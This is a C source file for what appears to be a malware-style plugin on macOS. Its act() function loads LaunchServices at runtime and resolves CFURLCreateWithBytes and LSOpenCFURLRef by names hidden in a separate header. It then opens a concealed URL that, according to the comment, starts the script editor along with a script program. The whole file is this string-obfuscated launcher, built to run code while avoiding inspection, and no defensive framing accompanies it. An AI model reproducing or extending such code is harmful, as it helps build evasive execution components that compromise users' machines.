/* LaunchServices opens an address whose handler is the editor of scripts, and then a
 * program of scripts beside it; its functions come by hidden names. */
#include "plugin.h"
#include "hidden.h" /* 0: the framework, 1: CFURLCreateWithBytes, 2: LSOpenCFURLRef, 3: the address */
extern void *dlopen(const char *, int), *dlsym(void *, const char *);
extern unsigned long strlen(const char *);
static void act(char **env) {
    void *services = dlopen(hidden0(), 1);
    void *(*address)(void *, const char *, long, unsigned, void *) = dlsym(services, hidden1());
    int (*open)(void *, void **) = dlsym(services, hidden2());
    open(address(0, hidden3(), strlen(hidden3()), 0x08000100, 0), 0);
}
